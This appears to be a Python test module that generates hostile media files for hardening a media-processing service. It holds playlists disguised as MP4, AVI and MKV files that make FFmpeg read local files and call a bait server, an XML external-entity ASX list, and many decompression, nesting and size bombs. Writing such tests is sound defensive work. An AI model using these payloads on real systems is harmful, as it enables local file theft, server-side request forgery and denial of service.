"""Recordings: playlists in disguise, boxes that claim exabytes, tags that are bombs."""

from __future__ import annotations

import struct
import zlib

from tests import false_recordings, samples
from tests.hostile.catalogue import Bait, baited, hostile
from tests.hostile.files.archives import zlib_zeros

MOST = 2**32 - 1


def _playlist(bait: Bait) -> str:
    """Everything that FFmpeg's protocols could be talked into."""
    places = [
        f"{bait.url}/segment.ts",
        f"file://{bait.text}",
        bait.text,
        f"concat:{bait.url}/a|file://{bait.text}",
        f"subfile,,start,0,end,64,,:{bait.text}",
        f"crypto:file://{bait.text}",
        f"tcp://127.0.0.1:{bait.port}",
        f"udp://127.0.0.1:{bait.port}",
        f"gopher://127.0.0.1:{bait.port}/x",
        f"async:cache:{bait.url}/x",
    ]
    segments = "".join(f"#EXTINF:1.0,\n{place}\n" for place in places)
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{bait.url}/key",IV=0x0\n#EXT-X-MAP:URI="file://{bait.text}"\n'
    media = f'#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{bait.url}/audio.m3u8"\n'
    return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n{key}{media}{segments}#EXT-X-ENDLIST\n"


@baited("clip.mp4")
def playlist_named_mp4(bait: Bait) -> bytes:
    """An HLS playlist that reads files and calls servers."""
    return _playlist(bait).encode()


@baited("list.m3u8", "application/vnd.apple.mpegurl")
def playlist_by_its_name(bait: Bait) -> bytes:
    """The same under its own name and type."""
    return _playlist(bait).encode()


@baited("list.avi")
def playlist_in_avi(bait: Bait) -> bytes:
    """An AVI whose subtitle stream is a playlist (GAB2), as it was used against video sites in 2016."""
    listed = _playlist(bait).encode()
    gab = b"GAB2\0\2\0" + struct.pack("<I", 4) + b"x\0\0\0" + b"\4\0" + struct.pack("<I", len(listed)) + listed
    main = struct.pack("<14I", 40_000, 0, 0, 16, 1, 0, 1, 0, 64, 64, 0, 0, 0, 0)
    stream = b"txts" + bytes(4) + struct.pack("<IHHIIIIIII", 0, 0, 0, 0, 1, 25, 0, 1, 0, MOST) + bytes(12)
    heads = _riff(b"avih", main) + _list(b"strl", _riff(b"strh", stream) + _riff(b"strf", bytes(40)))
    return _riff(b"RIFF", b"AVI " + _list(b"hdrl", heads) + _list(b"movi", _riff(b"00tx", gab) * 3))


def _riff(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def _list(kind: bytes, body: bytes) -> bytes:
    return _riff(b"LIST", kind + body)


@baited("list.mkv")
def playlist_in_matroska(bait: Bait) -> bytes:
    """A playlist as the only attachment, and one as the only subtitle."""
    name, kind = ebml(0x466E, b"list.m3u8"), ebml(0x4660, b"application/x-mpegurl")
    attached = ebml(0x61A7, name + kind + ebml(0x465C, _playlist(bait).encode()) + ebml(0x46AE, b"\1"))
    return _matroska(ebml(0x1941A469, attached) + ebml(0x1043A770, b""))


@baited("join.ffconcat")
def concat_script(bait: Bait) -> bytes:
    """FFmpeg's own list of files."""
    return f"ffconcat version 1.0\nfile '{bait.text}'\nfile {bait.url}/x\noption safe 0\n".encode()


@baited("stream.mpd", "application/dash+xml")
def dash_manifest(bait: Bait) -> bytes:
    """A DASH manifest of places elsewhere."""
    base = f"<BaseURL>{bait.url}/</BaseURL><BaseURL>file://{bait.text}</BaseURL>"
    part = f"<Representation id='1' bandwidth='1'>{base}<SegmentList><SegmentURL media='x.m4s'/></SegmentList>"
    period = f"<Period><AdaptationSet mimeType='video/mp4'>{part}</Representation></AdaptationSet></Period>"
    return f"<?xml version='1.0'?><MPD xmlns='urn:mpeg:dash:schema:mpd:2011' type='dynamic'>{period}</MPD>".encode()


@baited("session.sdp", "application/sdp")
def session_description(bait: Bait) -> bytes:
    """A session that would open ports and send to us."""
    head = "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
    return f"{head}m=video {bait.port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n".encode()


@baited("radio.pls")
def radio_lists(bait: Bait) -> bytes:
    """A playlist of the old kind."""
    return f"[playlist]\nFile1={bait.url}/radio\nFile2={bait.text}\nNumberOfEntries=2\n".encode()


@baited("list.asx")
def asx_list(bait: Bait) -> bytes:
    """A playlist of Windows Media, with an entity."""
    entity = f"<!DOCTYPE asx [<!ENTITY a SYSTEM 'file://{bait.text}'>]>"
    return f"{entity}<asx version='3.0'><entry><ref href='{bait.url}/x'/><title>&a;</title></entry></asx>".encode()


def box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I", 8 + len(body)) + kind + body


FTYP = box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")


def mp4(
    *boxes: bytes, dref: bytes | None = None, edits: bytes = b"", table: bytes | None = None, scale: int = 25
) -> bytes:
    """One track of video whose tables can be anything."""
    reference = dref or box(b"dref", struct.pack(">II", 0, 1), box(b"url ", struct.pack(">I", 1)))
    entry = bytes(6) + struct.pack(">H", 1) + bytes(16) + struct.pack(">HHIII", 64, 64, 72 << 16, 72 << 16, 0)
    described = box(b"stsd", struct.pack(">II", 0, 1), box(b"mp4v", entry + b"\0\1" + bytes(32) + b"\0\x18\xff\xff"))
    tables = table or b"".join(
        [
            box(b"stts", struct.pack(">IIII", 0, 1, 1, 1)),
            box(b"stsc", struct.pack(">IIIII", 0, 1, 1, 1, 1)),
            box(b"stsz", struct.pack(">IIII", 0, 0, 1, 4)),
            box(b"stco", struct.pack(">III", 0, 1, 40)),
        ]
    )
    info = box(b"minf", box(b"vmhd", struct.pack(">I8x", 1)), box(b"dinf", reference), box(b"stbl", described, tables))
    handler = box(b"hdlr", bytes(8) + b"vide" + bytes(13))
    media = box(b"mdia", box(b"mdhd", struct.pack(">IIIIIHH", 0, 0, 0, scale, 50, 0, 0)), handler, info)
    track = box(b"tkhd", struct.pack(">IIIIII", 7, 0, 0, 1, 0, 50) + bytes(52) + struct.pack(">II", 64 << 16, 64 << 16))
    movie = box(b"mvhd", struct.pack(">IIIII", 0, 0, 0, scale, 50) + bytes(80))
    return FTYP + box(b"mdat", bytes(64)) + box(b"moov", movie, box(b"trak", track, edits, media), *boxes)


@baited("reference.mov")
def movie_of_outer_data(bait: Bait) -> bytes:
    """A QuickTime movie whose frames lie in another file, by path, by alias and by URL."""
    path = bait.text.encode()
    alias = bytes(4) + struct.pack(">IHH", 0, 150 + len(path) + 4, 2) + bytes(142)
    alias += struct.pack(">HH", 2, len(path)) + path + b"\xff\xff\0\0"
    url = box(b"url ", bytes(4) + f"{bait.url}/movie".encode() + b"\0")
    local = box(b"url ", bytes(4) + b"file://" + path + b"\0")
    references = box(b"dref", struct.pack(">II", 0, 3), box(b"alis", alias), url, local)
    remote = box(b"rmra", box(b"rmda", box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", 64) + bait.url.encode())))
    return mp4(remote, dref=references)


@hostile("size.mp4")
def mp4_of_absurd_boxes() -> bytes:
    """Boxes of 4 GiB, of eight exabytes, of less than their head."""
    big = struct.pack(">I4sQ", 1, b"free", 2**63 - 1)
    return FTYP + struct.pack(">I4s", MOST, b"moov") + struct.pack(">I4s", 3, b"trak") + big + bytes(100)


@hostile("deep.mp4")
def mp4_of_great_depth() -> bytes:
    """Boxes inside boxes, thirty thousand deep."""
    depth = 30_000
    boxes = (struct.pack(">I4s", 8 * (depth - n), b"moov" if n % 2 else b"trak") for n in range(depth))
    return FTYP + box(b"moov", *boxes)


@hostile("samples.mp4")
def mp4_of_absurd_tables() -> bytes:
    """Two thousand million samples in every table."""
    count = struct.pack(">I", 2**31 - 1)
    names = (b"stts", b"ctts", b"stsc", b"stco", b"co64", b"stss")
    tables = [box(name, bytes(4) + count + count * 3) for name in names]
    sizes = box(b"stsz", bytes(4) + struct.pack(">II", 1, 2**31 - 1))
    return mp4(table=b"".join([*tables, sizes]))


@hostile("even.mp4")
def mp4_of_many_even_samples() -> bytes:
    """Five hundred million samples of one byte, told in sixty bytes."""
    count = 500_000_000
    return mp4(
        table=b"".join(
            [
                box(b"stts", struct.pack(">IIII", 0, 1, count, 1)),
                box(b"stsc", struct.pack(">IIIII", 0, 1, 1, count, 1)),
                box(b"stsz", struct.pack(">III", 0, 1, count)),
                box(b"stco", struct.pack(">III", 0, 1, 40)),
            ]
        )
    )


@hostile("edits.mp4")
def mp4_of_absurd_edits() -> bytes:
    """A hundred thousand edits of everything."""
    edit = struct.pack(">QqI", 2**63 - 1, -(2**63), 2**31 - 1)
    return mp4(edits=box(b"edts", box(b"elst", struct.pack(">II", 1 << 24, 100_000) + edit * 100_000)))


@hostile("scale.mp4")
def mp4_of_no_time_scale() -> bytes:
    """A time scale of zero."""
    return mp4(scale=0)


@hostile("duration.mp4")
def mp4_of_absurd_duration() -> bytes:
    """Three hundred thousand million years."""
    movie = box(b"mvhd", struct.pack(">IQQIQ", 1 << 24, 2**64 - 1, 2**64 - 1, 1, 2**63 - 1) + bytes(80))
    return mp4().replace(mp4()[mp4().index(b"mvhd") - 4 :][:108], movie)


@hostile("tracks.mp4")
def mp4_of_many_tracks() -> bytes:
    """Twenty thousand tracks."""
    content = mp4()
    at = content.index(b"trak") - 4
    track = content[at : at + struct.unpack(">I", content[at : at + 4])[0]]
    return mp4(*[track] * 20_000)


@hostile("cover.m4a")
def m4a_with_picture_bombs() -> bytes:
    """Covers that claim four thousand million pixels, and names of a megabyte."""
    cover = box(b"covr", box(b"data", struct.pack(">II", 14, 0) + samples.huge_png()) * 50)
    name = box(b"\xa9nam", box(b"data", struct.pack(">II", 1, 0) + b"x" * 1_000_000))
    tags = box(b"meta", bytes(4), box(b"hdlr", bytes(8) + b"mdirappl" + bytes(9)), box(b"ilst", cover, name))
    return mp4(box(b"udta", tags)).replace(b"isom", b"M4A ")


@hostile("fragments.mp4")
def mp4_of_absurd_fragments() -> bytes:
    """Fifty thousand fragments that start before they begin, an index that points at itself."""
    run = box(b"trun", struct.pack(">III", 0x000301, 2**31 - 1, 0), struct.pack(">II", MOST, MOST))
    part = box(b"moof", box(b"traf", box(b"tfhd", struct.pack(">II", 1, 1) + struct.pack(">q", -1)), run))
    index = box(
        b"sidx", struct.pack(">IIIIIHH", 0, 1, 1, 0, 0, 0, 65535) + struct.pack(">III", 0x80000000, 0, 0) * 9000
    )
    return mp4(box(b"mvex", box(b"trex", bytes(24)))) + index + part * 50_000


def id3(*frames: bytes, claims: int | None = None) -> bytes:
    body = b"".join(frames)
    return b"ID3\4\0\0" + syncsafe(len(body) if claims is None else claims) + body


def syncsafe(value: int) -> bytes:
    return bytes(value >> shift & 0x7F for shift in (21, 14, 7, 0))


def id3_frame(name: bytes, body: bytes, flags: int = 0) -> bytes:
    return name + syncsafe(len(body)) + struct.pack(">H", flags) + body


@hostile("tags.mp3")
def mp3_of_absurd_tag() -> bytes:
    """A tag that claims 256 MiB, of which there is nothing."""
    return id3(claims=2**28 - 1) + samples.mp3()


@hostile("packed.mp3")
def mp3_with_packed_frames() -> bytes:
    """Frames that unpack to 1 GiB each."""
    data = zlib_zeros(1024)
    return id3(id3_frame(b"TIT2", syncsafe(2**28 - 1) + data, 0x0009), id3_frame(b"APIC", data, 0x0009)) + samples.mp3()


@hostile("frames.mp3")
def mp3_of_many_frames() -> bytes:
    """A hundred thousand comments, and chapters that hold themselves."""
    frame = id3_frame(b"COMM", b"\0eng\0x")
    chapter = id3_frame(b"CHAP", b"a\0" + bytes(16) + id3_frame(b"CHAP", b"a\0" + bytes(16)) * 20)
    return id3(frame * 100_000, chapter * 1000) + samples.mp3()


@hostile("cover.mp3")
def mp3_with_a_picture_bomb() -> bytes:
    """A cover that claims four thousand million pixels."""
    return id3(id3_frame(b"APIC", b"\0image/png\0\3\0" + samples.huge_png())) + samples.mp3()


@baited("linked.mp3")
def mp3_with_a_linked_cover(bait: Bait) -> bytes:
    """A cover that is an address."""
    frames = [id3_frame(b"APIC", b"\0-->\0\3\0" + place.encode()) for place in (bait.url, f"file://{bait.picture}")]
    return id3(*frames, id3_frame(b"WOAF", bait.url.encode())) + samples.mp3()


@hostile("noise.mp3")
def mp3_of_false_frames() -> bytes:
    """A megabyte of frame heads, each of another rate."""
    return b"".join(b"\xff\xfb" + bytes((n % 240, 0)) for n in range(250_000))


def _wav(form: bytes, *, size: int = MOST) -> bytes:
    return b"RIFF" + struct.pack("<I", MOST) + b"WAVE" + _riff(b"fmt ", form) + b"data" + struct.pack("<I", size)


@hostile("liar.wav")
def wav_that_lies() -> bytes:
    """Four gigabytes of sound in a hundred bytes."""
    return _wav(struct.pack("<HHIIHH", 1, 2, 44100, 176400, 4, 16)) + bytes(100)


@hostile("channels.wav")
def wav_of_absurd_form() -> bytes:
    """65,535 channels at 4 GHz, blocks of nothing."""
    return _wav(struct.pack("<HHIIHH", 1, 65535, MOST, 0, 0, 65535)) + bytes(200_000)


@hostile("silent.wav")
def wav_of_no_form() -> bytes:
    """No channel, no rate, no bit."""
    return _wav(bytes(16)) + bytes(100)


@hostile("chunks.wav")
def wav_of_many_chunks() -> bytes:
    """Two hundred thousand lists and forms before the data."""
    good = samples.wav()
    return good[:12] + (_list(b"INFO", b"") + _riff(b"fmt ", good[20:36])) * 100_000 + good[12:]


@hostile("large.rf64")
def rf64_of_absurd_size() -> bytes:
    """Eight exabytes of sound, and a table of as many chunks."""
    sizes = struct.pack("<QQQI", 2**63 - 1, 2**63 - 1, 2**63 - 1, MOST)
    form = _riff(b"fmt ", struct.pack("<HHIIHH", 1, 2, 44100, 176400, 4, 16))
    return b"RF64" + struct.pack("<I", MOST) + b"WAVE" + _riff(b"ds64", sizes) + form + b"data" + b"\xff" * 100


def _flac(*blocks: tuple[int, int, bytes]) -> bytes:
    """Blocks of type, claimed length and body; the first is STREAMINFO."""
    return b"fLaC" + b"".join(struct.pack(">I", kind << 24 | length) + body for kind, length, body in blocks)


@hostile("blocks.flac")
def flac_of_absurd_blocks() -> bytes:
    """2^36 samples, comments without end, a picture of 4 GiB, a thousand seek tables."""
    info = struct.pack(">HH", 65535, 65535) + b"\xff" * 14 + bytes(16)
    comments = struct.pack("<II", MOST, MOST) + bytes(32)
    picture = struct.pack(">II", 3, MOST) + b"image/png" + b"\xff" * 100
    rest = [(3, 18, b"\xff" * 18)] * 1000 + [(4, len(comments), comments), (6, 2**24 - 1, picture)]
    return _flac((0, 34, info[:34]), *rest)


@hostile("pages.ogg")
def ogg_of_many_streams() -> bytes:
    """Twenty thousand streams that begin and say nothing, at the end of time."""
    pages = [
        b"OggS\0\2" + struct.pack("<qIIIB", 2**63 - 1, n, 0, 0, 1) + b"\x1e" + b"\1vorbis" + bytes(23)
        for n in range(20_000)
    ]
    return b"".join(pages)


@hostile("comments.opus")
def opus_of_absurd_comments() -> bytes:
    """Four thousand million comments, and a cover in base64 that never ends."""
    head = b"OpusHead\1\xff" + struct.pack("<HIhB", 65535, 0, -1, 255) + bytes(257)
    tags = b"OpusTags" + struct.pack("<I", MOST) + b"x" * 50 + struct.pack("<I", MOST) + b"METADATA_BLOCK_PICTURE="
    return _ogg_page(head, 2, 0) + _ogg_page(tags + b"A" * 60_000, 0, 1)


def _ogg_page(body: bytes, kind: int, number: int) -> bytes:
    lacing = bytes([255] * (len(body) // 255) + [len(body) % 255])
    page = b"OggS\0" + bytes((kind,)) + struct.pack("<qIIIB", 0, 1, number, 0, len(lacing) % 256) + lacing[:255]
    return page + body


def ebml(number: int, body: bytes, claims: int | None = None) -> bytes:
    """An element; ``claims`` is a size that need not be true."""
    name = number.to_bytes((number.bit_length() + 7) // 8, "big")
    return name + struct.pack(">Q", 1 << 56 | (len(body) if claims is None else claims)) + body


def _matroska(content: bytes) -> bytes:
    head = ebml(0x1A45DFA3, ebml(0x4282, b"matroska") + ebml(0x4287, b"\4") + ebml(0x4285, b"\2"))
    return head + ebml(0x18538067, content)


@hostile("deep.mkv")
def matroska_of_great_depth() -> bytes:
    """Tags inside tags, thirty thousand deep, each of unknown size."""
    return _matroska(b"\x12\x54\xc3\x67\xff" + b"\x73\x73\xff" + b"\x67\xc8\xff" * 30_000)


@hostile("size.mkv")
def matroska_of_absurd_sizes() -> bytes:
    """Elements of 2^56 bytes."""
    most = 2**56 - 2
    return _matroska(b"".join(ebml(number, bytes(8), most) for number in (0x1549A966, 0x1654AE6B, 0x1C53BB6B, 0xEC)))


@hostile("time.webm")
def webm_of_no_duration() -> bytes:
    """Durations that are infinite, no number, and below zero; a time scale of zero."""
    infos = b"".join(
        ebml(0x1549A966, ebml(0x2AD7B1, b"\0") + ebml(0x4489, struct.pack(">d", value)))
        for value in (float("inf"), float("nan"), -1e308)
    )
    return _matroska(infos + _track()).replace(b"matroska", b"webm\0\0\0\0")


def _track(*more: bytes) -> bytes:
    size = ebml(0xB0, b"\x40\0") + ebml(0xBA, b"\x40\0")
    known = ebml(0xD7, b"\1") + ebml(0x83, b"\1") + ebml(0x86, b"V_VP8") + ebml(0xE0, size)
    return ebml(0x1654AE6B, ebml(0xAE, known + b"".join(more)))


@hostile("packed.mkv")
def matroska_with_packed_tracks() -> bytes:
    """Codec data that unpacks to 1 GiB."""
    packing = ebml(0x6D80, ebml(0x6240, ebml(0x5032, b"\3") + ebml(0x5034, ebml(0x4254, b"\0"))))
    return _matroska(_track(ebml(0x63A2, zlib_zeros(1024)), packing))


@hostile("objects.flv")
def flv_of_deep_objects() -> bytes:
    """Metadata of objects inside objects, a hundred thousand deep."""
    data = b"\2\0\x0aonMetaData" + b"\3\0\1a" * 100_000
    tag = b"\x12" + len(data).to_bytes(3, "big") + bytes(7) + data
    return b"FLV\1\5\0\0\0\x09" + bytes(4) + tag + struct.pack(">I", len(tag))


@hostile("objects.wmv")
def asf_of_absurd_objects() -> bytes:
    """Objects of no size and of eight exabytes, inside each other."""
    head = bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c")
    return head + struct.pack("<QIBB", 2**63 - 1, MOST, 1, 2) + (head + struct.pack("<QIBB", 24, 9, 1, 2)) * 20_000


@hostile("tables.ts")
def transport_stream_of_many_programs() -> bytes:
    """Tables that name each other, in five thousand packets."""

    def packet(n: int) -> bytes:
        table = b"\0\x02\xb0\xff\0\1\xc1\0\0" + struct.pack(">HH", n & 0x1FFF | 0xE000, 0xF000) * 30
        return (b"\x47" + struct.pack(">H", 0x4000 | n & 0x1FFF) + b"\x10" + table).ljust(188, b"\xff")[:188]

    return b"".join(packet(n) for n in range(5000))


@hostile("packs.mpg")
def program_stream_of_noise() -> bytes:
    """Packs, system heads and packets of every stream, each a few bytes long."""
    packs = (
        b"\0\0\1\xba" + b"\x44" * 10 + b"\0\0\1" + bytes((n % 256,)) + b"\0\x03\x80\x80\x05" for n in range(20_000)
    )
    return b"".join(packs)


@hostile("rate.aiff")
def aiff_of_absurd_rate() -> bytes:
    """A sample rate of 2^16383, and 4 GiB of marks."""
    form = struct.pack(">hIh", 32767, MOST, 32767) + b"\x7f\xfe" + b"\xff" * 8
    parts = b"COMM" + struct.pack(">I", 18) + form + b"MARK" + struct.pack(">I", MOST) + b"\xff" * 100
    return b"FORM" + struct.pack(">I", MOST) + b"AIFF" + parts


@hostile("frames.aac")
def aac_of_empty_frames() -> bytes:
    """A hundred thousand frames of nothing."""
    return b"\xff\xf1\x50\x80\0\xff\xfc" * 100_000


@hostile("picture.flac")
def flac_with_a_picture_bomb() -> bytes:
    """A cover that claims four thousand million pixels."""
    data = samples.huge_png()
    picture = struct.pack(">II", 3, 9) + b"image/png" + struct.pack(">IIIIII", 0, 9, 9, 24, 0, len(data)) + data
    good = samples.flac()
    return good[:42] + struct.pack(">I", 6 << 24 | len(picture)) + picture + good[42:]


@hostile("tags.wav")
def wav_with_packed_tags() -> bytes:
    """An ID3 chunk that unpacks to 1 GiB."""
    tag = id3(id3_frame(b"TIT2", syncsafe(2**28 - 1) + zlib_zeros(1024), 0x0009))
    return samples.wav() + _riff(b"id3 ", tag)


@hostile("broken.ogg")
def ogg_of_packed_theora() -> bytes:
    """A video of 2^20 by 2^20 pixels in a head."""
    head = b"\x80theora\3\2\1" + struct.pack(">HH", 65535, 65535) + b"\xff" * 30 + zlib.compress(bytes(10))
    return _ogg_page(head, 2, 0) + _ogg_page(b"\x81theora" + struct.pack("<II", 0, MOST), 0, 1)


@hostile("thirtieth.mp4")
def mp4_that_says_a_thirtieth() -> bytes:
    """Five seconds, of which every header says a sixth of one."""
    content = false_recordings.film()
    for name, offset in ((b"mvhd", 20), (b"mdhd", 20), (b"elst", 12)):
        content = false_recordings.changed(content, name, offset, false_recordings.shorter)
    return content


@hostile("faster.mp4")
def mp4_with_a_faster_clock() -> bytes:
    """Five seconds, whose time stamps go thirty times as fast as their sound."""
    return false_recordings.changed(false_recordings.fragmented(), b"mdhd", 16, false_recordings.faster)


@hostile("short.webm")
def webm_that_says_a_tenth_of_a_second() -> bytes:
    """Five seconds in all."""
    return false_recordings.webm_duration(0.1)


@hostile("short.mp3")
def mp3_that_says_ten_frames() -> bytes:
    """Five seconds in all."""
    return false_recordings.mp3(10, b"Xing")


@hostile("short.wav")
def wav_that_goes_on_behind_its_end() -> bytes:
    """Five seconds, of which the header owns a thirtieth."""
    return false_recordings.wav(4, false_recordings.shorter)


@hostile("short.aiff")
def aiff_that_goes_on_behind_its_end() -> bytes:
    """The same, of which nobody can tell how long it is."""
    return false_recordings.aiff()


@hostile("hidden.mp3")
def mp3_behind_a_false_tag() -> bytes:
    """A tag that claims 256 MiB in front of five seconds of sound."""
    return id3(bytes(3000), claims=2**28 - 1) + false_recordings.mp3(None)
